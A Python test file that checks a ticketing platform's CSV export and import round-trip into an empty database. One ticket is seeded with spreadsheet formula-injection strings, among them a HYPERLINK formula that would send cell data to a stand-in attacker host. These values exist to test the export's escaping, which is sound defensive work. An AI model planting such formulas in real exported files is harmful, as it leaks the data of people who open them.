"""Export → import into an empty ledger → the same read models.

A small world is built live over HTTP (network, parts, stock, tickets at several steps of
their lifecycle), exported with ``export --kind`` in the import formats, imported into an
empty database, and both sides projected. What a row cannot carry is left out and said
(a contact correction), and what differs by construction is not compared: recording
times (``updated_at`` = when recorded), event ids in the checklist's evidence, the
agent (an imported receipt's actor is the import's operator), stream versions of stock
(one opening balance instead of its movements).
"""

from __future__ import annotations

import csv
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Table, select

from services.dispatch.tables import service_points, technicians, ticket_flags
from services.feedback.tables import compliance_tickets
from services.parts.tables import parts_catalogue, parts_locations, parts_monthly_usage, parts_stock
from shared.app.config import Settings
from shared.app.importing.catalog import find_kind
from shared.app.importing.cells import FORMULA_STARTS
from shared.app.importing.export import export_kind
from shared.app.platform import Platform
from shared.kernel.clock import ManualClock
from shared.readmodels.ticket_state import ticket_state
from tests.conftest import fresh_database_url
from tests.support.auth import TEST_AUTH
from tests.support.clients import service_client
from tests.support.dispatch_network import build_network, open_ticket
from tests.support.history import ORDER
from tests.support.importing import import_all
from tests.support.world import run_projector

pytestmark = pytest.mark.parametrize("backend", ["sqlite"])
LEFT_ALONE = {"updated_at"}


def ok(response: Any) -> Any:
    assert response.status_code in (200, 201), response.text
    return response.json()


async def build_live(platform: Platform, clock: ManualClock) -> dict[str, str]:
    async with (
        service_client("dispatch", platform, role="admin") as admin,
        service_client("parts", platform, role="admin") as parts,
        service_client("parts", platform, location="sp-east-1") as clerk,
        service_client("intake", platform) as intake,
        service_client("feedback", platform, role="customer_relations") as relations,
    ):
        await build_network(admin)
        for lid, body in {
            "hq": {"name": "HQ", "level": "headquarters"},
            "rc-east": {
                "name": "East RC",
                "level": "regional_center",
                "parent_id": "hq",
                "region": "east",
            },
            "sp-east-1": {"name": "East outlet", "level": "service_point", "parent_id": "rc-east"},
        }.items():
            ok(await parts.put(f"/locations/{lid}", json=body))
        ok(
            await parts.put(
                "/parts/BELT-22", json={"name": "Belt", "unit_cost": 4.2, "return_required": False}
            )
        )
        ok(await clerk.post("/stock/receipts", json={"part_number": "BELT-22", "quantity": 9}))
        tickets = {}

        async def later(minutes: int = 15) -> None:
            clock.advance(minutes=minutes)

        async def field_work(tid: str, *, repair: dict[str, Any] | None) -> None:
            await later()
            ok(await admin.post(f"/tickets/{tid}/dispatch", json={}))
            if repair is None:
                return
            await later(60)
            ok(await admin.post(f"/tickets/{tid}/visit", json={"findings": "belt worn"}))
            await later()
            ok(await admin.post(f"/tickets/{tid}/repair", json=repair))

        belt = {
            "outcome": "replaced",
            "cost_borne_by": "customer",
            "parts_used": [{"part_number": "BELT-22", "quantity": 2}],
        }
        tickets["closed"] = await open_ticket(
            intake, customer__phone="13800000001", product__serial_number="RT-1"
        )
        await field_work(tickets["closed"], repair=belt)
        await later()
        ok(
            await relations.post(
                f"/tickets/{tickets['closed']}/follow-ups",
                json={
                    "satisfaction_score": 95,
                    "would_recommend": 10,
                    "problem_solved": True,
                    "channel": "call",
                },
            )
        )
        tickets["reopened"] = await open_ticket(
            intake, customer__phone="13800000002", product__serial_number="RT-2"
        )
        await field_work(tickets["reopened"], repair={"outcome": "fixed"})
        await later()
        ok(
            await relations.post(
                f"/tickets/{tickets['reopened']}/follow-ups",
                json={
                    "satisfaction_score": 30,
                    "would_recommend": 2,
                    "problem_solved": False,
                    "channel": "call",
                },
            )
        )
        tickets["dispatched"] = await open_ticket(
            intake, customer__phone="13800000003", product__serial_number="RT-3"
        )
        await field_work(tickets["dispatched"], repair=None)
        tickets["received"] = await open_ticket(
            intake, path=None, customer__phone="13800000004", product__serial_number="RT-4"
        )
        remote = await open_ticket(
            intake, path=None, customer__phone="13800000005", product__serial_number="RT-5"
        )
        diagnosis = {
            "category": "misuse",
            "complexity": "simple",
            "resolution_path": "remote_guidance",
            "remote_outcome": "fixed",
        }
        ok(await intake.post(f"/tickets/{remote}/diagnosis", json=diagnosis))
        tickets["remote"] = remote
        corrected = await open_ticket(
            intake, path=None, customer__phone="13800000006", product__serial_number="RT-6"
        )
        ok(
            await intake.patch(
                f"/tickets/{corrected}/contact",
                json={"reason": "typo", "customer": {"name": "Li Wei", "phone": "13900000006"}},
            )
        )
        tickets["corrected"] = corrected
        # Text a spreadsheet would run as formulas (the export's CSV is opened in one).
        tickets["formulas"] = await open_ticket(
            intake,
            path=None,
            customer__name='=HYPERLINK("https://evil.example/?"&B2,"x")',
            customer__phone="+86 138 0000 0007",
            address__line="@SUM(1+1)*cmd",
            product__serial_number="RT-7",
            problem__symptom="-2+3 drum stops",
        )
    await run_projector(platform)
    return tickets


def rows(conn: Any, table: Table, leave: set[str], where: Any = None) -> dict[Any, dict[str, Any]]:
    keys = [c.name for c in table.primary_key.columns]
    query = select(table) if where is None else select(table).where(where)
    out = {}
    for row in conn.execute(query).mappings():
        out[tuple(row[k] for k in keys)] = {k: v for k, v in row.items() if k not in leave}
    return out


def checklist(row: dict[str, Any]) -> dict[str, Any]:
    """The checklist without event ids (different events, the same verdicts). What an
    imported history cannot evidence reads ``unknown`` (imported) where the live ticket
    is ``pending``: compared as pending, with the live note."""
    items = json.loads(row.pop("checklist"))
    row.pop("facts")
    row["items"] = {}
    for name, item in items.items():
        imported = item["status"] == "unknown" and item["note"].startswith("imported:")
        row["items"][name] = (
            ("pending", "(imported)") if imported else (item["status"], item["note"])
        )
        if imported and name in row:
            row[name] = "pending"
    if row["compliant"] == "unknown":
        row["compliant"] = "pending"
    return row


def pending_notes(live: dict[Any, dict[str, Any]], imported: dict[Any, dict[str, Any]]) -> None:
    """The live notes of the items the imported side says it cannot evidence."""
    for key, row in imported.items():
        for name, (_status, note) in row["items"].items():
            if note == "(imported)":
                assert live[key]["items"][name][0] == "pending", (key, name)
                row["items"][name] = live[key]["items"][name]


def in_clear(conn: Any, platform: Platform, table: dict[Any, dict[str, Any]]) -> None:
    """Personal data opened: each database seals it with keys of its own."""
    personal = platform.store.personal
    assert personal is not None
    clear = personal.open_tokens(conn, [v for row in table.values() for v in row.values()])
    for row in table.values():
        row.update({k: clear[v] for k, v in row.items() if isinstance(v, str) and v in clear})


def read_models(conn: Any, platform: Platform, tickets: set[str]) -> dict[str, Any]:
    mine = ticket_state.c.ticket_id.in_(tickets)
    # A customer's id is the database's own (found again from name and phone).
    states = rows(conn, ticket_state, LEFT_ALONE | {"customer_id"}, mine)
    in_clear(conn, platform, states)
    compliance = rows(
        conn, compliance_tickets, {"agent_id"}, compliance_tickets.c.ticket_id.in_(tickets)
    )
    return {
        "ticket_state": states,
        "ticket_flags": rows(conn, ticket_flags, LEFT_ALONE, ticket_flags.c.ticket_id.in_(tickets)),
        "compliance": {k: checklist(v) for k, v in compliance.items()},
        "service_points": rows(conn, service_points, LEFT_ALONE),
        "technicians": rows(conn, technicians, LEFT_ALONE),
        "catalogue": rows(conn, parts_catalogue, set()),
        "locations": rows(conn, parts_locations, set()),
        "stock": rows(conn, parts_stock, {"version", "updated_at"}),
        "usage": rows(conn, parts_monthly_usage, set()),
    }


@pytest.fixture
async def empty(
    request: pytest.FixtureRequest, clock: ManualClock, tmp_path: Path
) -> AsyncIterator[Platform]:
    (tmp_path / "second").mkdir()
    url = await fresh_database_url(request, "sqlite", tmp_path / "second")
    settings = Settings(database_url=url, data_dir=tmp_path / "second-data", auth=TEST_AUTH)
    platform = Platform.from_settings(settings, clock=clock)
    yield platform
    await platform.close()


async def test_export_then_import_reproduces_the_read_models(
    platform: Platform, empty: Platform, clock: ManualClock, tmp_path: Path
) -> None:
    tickets = await build_live(platform, clock)
    clock.advance(days=35)  # the month of the usage is over: it is history now
    now = clock.now()
    files: dict[str, Path] = {}
    left_out: dict[str, list[Any]] = {}
    for kind in ORDER:
        path = tmp_path / f"export-{kind}.csv"
        summary = await platform.db.read(
            lambda c, k=kind, p=path: export_kind(c, platform.store, find_kind(k), p, "csv", now)
        )
        files[kind], left_out[kind] = path, summary.left_out
    assert [u.reason for u in left_out["tickets"]] == [
        "ContactDetailsCorrected more than once or out of the row's order"
    ]
    with files["tickets"].open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert [c for c in cells if c.startswith("'")] == [
        '\'=HYPERLINK("https://evil.example/?"&B2,"x")',
        "'+8613800000007",
        "'@SUM(1+1)*cmd",
        "'-2+3 drum stops",
    ]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    await import_all(empty, files)
    await run_projector(empty)
    kept = {t for name, t in tickets.items() if name != "corrected"}
    live = await platform.db.read(lambda c: read_models(c, platform, kept))
    imported = await empty.db.read(lambda c: read_models(c, empty, kept))
    assert len(live["ticket_state"]) == len(kept) and live["usage"] and live["stock"]
    pending_notes(live["compliance"], imported["compliance"])
    for name, table in live.items():
        for key, row in table.items():
            other = imported[name].get(key, {})
            differing = {k: (v, other.get(k)) for k, v in row.items() if other.get(k) != v}
            assert not differing, (name, key, differing)
        assert imported[name] == table, name


async def test_a_ticket_under_an_sla_policy_is_exported_and_says_what_it_loses(
    platform: Platform, clock: ManualClock, tmp_path: Path
) -> None:
    """Once a policy is defined every ticket records ``SlaPolicyApplied``: the rows are
    written (they were all left out before), and the summary says the policy stays behind."""
    policy = {
        "name": "Around the clock",
        "response": {"normal": {"hours": 8}, "urgent": {"hours": 2}, "critical": {"hours": 1}},
        "resolution": {"simple": {"hours": 4}, "general": {"hours": 24}, "complex": {"hours": 72}},
        "reason": "all tickets around the clock",
    }
    async with service_client("dispatch", platform, role="admin") as admin:
        defined = await admin.put("/sla-policies/standard", json=policy)
        assert defined.status_code in (200, 201), defined.text
    async with service_client("intake", platform) as intake:
        tid = await open_ticket(intake, path=None)
    path = tmp_path / "tickets.csv"
    summary = await platform.db.read(
        lambda c: export_kind(c, platform.store, find_kind("tickets"), path, "csv", clock.now())
    )
    assert (summary.rows, summary.left_out) == (1, []), summary.as_dict()
    assert [u.reason for u in summary.not_carried_examples] == [
        "its SLA policy: imported, the ticket runs on the built-in policy"
    ]
    assert summary.as_dict()["not_carried"] == 1
    # Pauses and warnings of its clock are not steps of a row either.
    from shared.app.importing.export import one_row

    steps = ["TicketReceived", "SlaPolicyApplied", "TicketDiagnosed", "SlaWarning"]
    assert one_row([*steps, "SlaPaused", "SlaResumed", "SlaPaused", "SlaResumed"]) is None
    assert tid in path.read_text()


async def test_an_erased_customers_ticket_is_left_out_and_said(
    platform: Platform, clock: ManualClock, tmp_path: Path
) -> None:
    """The import needs a customer's clear name and phone: a row of ``[erased]`` would make
    the whole file invalid, so an erased customer's ticket is left out, with the reason."""
    async with service_client("intake", platform) as intake:
        gone = await open_ticket(intake, path=None, customer__phone="13800000011")
        kept = await open_ticket(intake, path=None, customer__phone="13800000012")
        # Two corrections would keep it out too (no row holds them): erasure is what it says.
        for street in ("2 Garden Road", "3 Garden Road"):
            moved = {"reason": "moved", "address": {"line": street, "region": "east"}}
            answer = await intake.patch(f"/tickets/{gone}/contact", json=moved)
            assert answer.status_code == 200, answer.text
    personal = platform.store.personal
    assert personal is not None

    def erase(conn: Any) -> None:
        state = ticket_state.c
        found = select(state.customer_id).where(state.ticket_id == gone)
        personal.erase(conn, conn.execute(found).scalar_one(), clock.now())

    await platform.db.write(erase)
    path = tmp_path / "tickets.csv"
    summary = await platform.db.read(
        lambda c: export_kind(c, platform.store, find_kind("tickets"), path, "csv", clock.now())
    )
    assert summary.rows == 1, summary.as_dict()
    assert [u.reason for u in summary.left_out] == ["the customer's personal data is erased"]
    written = path.read_text()
    assert kept in written and gone not in written and "[erased]" not in written


async def test_a_technicians_export_imports_into_its_own_ledger_as_present(
    platform: Platform, clock: ManualClock, tmp_path: Path
) -> None:
    """Shifts compare in any order: the export lists them as stored, the sheet had them as
    typed (a black-box pass: "already present with other values" for the same hours)."""
    from tests.support.importing import import_file

    await import_samples(platform, tmp_path, "service_points", "technicians")
    exported = tmp_path / "export-technicians.csv"
    await platform.db.read(
        lambda c: export_kind(
            c, platform.store, find_kind("technicians"), exported, "csv", clock.now()
        )
    )
    text = exported.read_text()
    weekdays_first = "mon-fri 09:00-18:00; sat 09:00-12:00"
    saturday_first = "sat 09:00-12:00; mon-fri 09:00-18:00"
    assert weekdays_first in text or saturday_first in text, text
    for hours in (weekdays_first, saturday_first):
        text = text.replace(weekdays_first, hours).replace(saturday_first, hours)
        exported.write_text(text)
        summary, _ = await import_file(platform, "technicians", exported)
        assert summary.status == "imported" and summary.tally.imported == 0, summary


async def test_a_stock_export_dates_the_balance_by_its_last_movement(
    platform: Platform, clock: ManualClock, tmp_path: Path
) -> None:
    """Usage history recorded after the count moves no stock: the opening balance an
    export carries is dated by the count, not by the usage month."""
    await import_samples(
        platform, tmp_path, "service_points", "locations", "parts", "stock", "usage"
    )
    exported = tmp_path / "export-stock.csv"
    await platform.db.read(
        lambda c: export_kind(c, platform.store, find_kind("stock"), exported, "csv", clock.now())
    )
    with exported.open(newline="") as f:
        counted = {(r["location_id"], r["part_number"]): r["counted_at"] for r in csv.DictReader(f)}
    assert counted[("sp-hz-01", "MOTOR-WM700")] == "2025-11-30T10:00:00Z"


async def import_samples(platform: Platform, tmp_path: Path, *kinds: str) -> None:
    """docs/import/samples' files of ``kinds``, in order (copied: the error reports are
    written beside the file)."""
    from tests.support.importing import import_file

    samples = Path(__file__).parent.parent / "docs" / "import" / "samples"
    for kind in kinds:
        source = tmp_path / f"{kind}.csv"
        source.write_bytes((samples / f"{kind}.csv").read_bytes())
        summary, _ = await import_file(platform, kind, source)
        assert summary.status == "imported", (kind, summary)
